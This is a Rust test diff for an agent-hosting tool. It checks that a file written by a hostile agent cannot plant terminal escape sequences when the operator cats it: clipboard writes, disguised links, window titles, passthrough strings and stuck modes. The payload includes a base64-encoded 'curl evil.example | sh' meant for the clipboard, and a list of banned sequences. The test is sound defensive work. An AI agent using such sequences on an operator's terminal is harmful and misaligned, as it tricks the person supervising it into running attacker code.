@@ -591,6 +591,97 @@ exec sleep 100000
     );
 }
 
+/// The attack of a hostile agent on the operator's terminal: it writes a file
+/// the operator will `cat` in its shell, full of what terminals obey beyond
+/// colours: OSC 52 sets the clipboard to a command to paste, OSC 8 hides
+/// where a link goes, OSC 0/1/2 retitle the window, DCS (tmux passthrough),
+/// APC, PM and SOS strings, the same in C1 form; and modes left on
+/// (alternate screen, mouse tracking) after the shell ends. Text and colours
+/// still come through; the terminal gets its modes back.
+#[test]
+fn an_agents_file_sets_no_clipboard_link_or_title_on_the_operators_terminal() {
+    let (hive, _bin) = hive_with_alice("process");
+    let home = hive.state_dir().join("agents/alice/state");
+    let evil = "visible-\x1b[31mred\x1b[0m-text\r\n\
+        \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\
+        \x1b]8;;https://evil.example/\x1b\\innocent-link\x1b]8;;\x1b\\\
+        \x1b]0;t0\x07\x1b]1;t1\x07\x1b]2;t2\x1b\\\
+        \x1bPtmux;\x1b\x1b]52;c;cGFzc3RocnU=\x07\x1b\\\
+        \x1b_Gf=100;AAAA\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\\
+        \u{9d}52;c;YzE=\x07\
+        \x1b[?1049h\x1b[?1000h\x1b[?2004h\x1b[?25l\
+        the-end\r\n";
+    std::fs::write(home.join("notes.txt"), evil).unwrap();
+
+    let mut child = hive
+        .command()
+        .args(["shell", "alice"])
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    stdin.write_all(b"cat notes.txt; exit\n").unwrap();
+    drop(stdin);
+    let out = child.wait_with_output().unwrap();
+    let shown = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{shown:?} {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        shown.contains("visible-\x1b[31mred\x1b[0m-text"),
+        "{shown:?}"
+    );
+    assert!(shown.contains("innocent-link"), "{shown:?}");
+    assert!(shown.contains("the-end"), "{shown:?}");
+    for banned in [
+        "\x1b]52",
+        "\x1b]8;",
+        "\x1b]0;",
+        "\x1b]1;",
+        "\x1b]2;",
+        "\x1bP",
+        "\x1b_",
+        "\x1b^",
+        "\x1bX",
+        "\u{9d}",
+        "Y3VybC",
+        "cGFzc3RocnU",
+        "YzE=",
+        "evil.example",
+    ] {
+        assert!(
+            !shown.contains(banned),
+            "{banned:?} reached the terminal: {shown:?}"
+        );
+    }
+
+    // On a terminal, the modes the file turned on are off again after the shell.
+    let mut cli = PtyCli::spawn(&hive, &["shell", "alice"]);
+    cli.wait_for("the prompt", |t| t.contains("# ") || t.contains("$ "));
+    cli.type_in("cat notes.txt; exit\n");
+    assert_eq!(cli.wait_exit().code(), Some(0), "{}", cli.text());
+    let shown = String::from_utf8_lossy(&cli.out.lock().unwrap()).into_owned();
+    let tail = &shown[shown.rfind("the-end").expect("the file was shown")..];
+    for reset in [
+        "\x1b[?1049l",
+        "\x1b[?1000l",
+        "\x1b[?2004l",
+        "\x1b[?25h",
+        "\x1b[0m",
+    ] {
+        assert!(
+            tail.contains(reset),
+            "no {reset:?} after the shell: {tail:?}"
+        );
+    }
+    assert!(!shown.contains("\x1b]52"), "{shown:?}");
+}
+
 /// The frames on host.sock, as a script would speak them: ack, data, resize, exit.
 #[test]
 fn shell_frames_on_host_sock() {
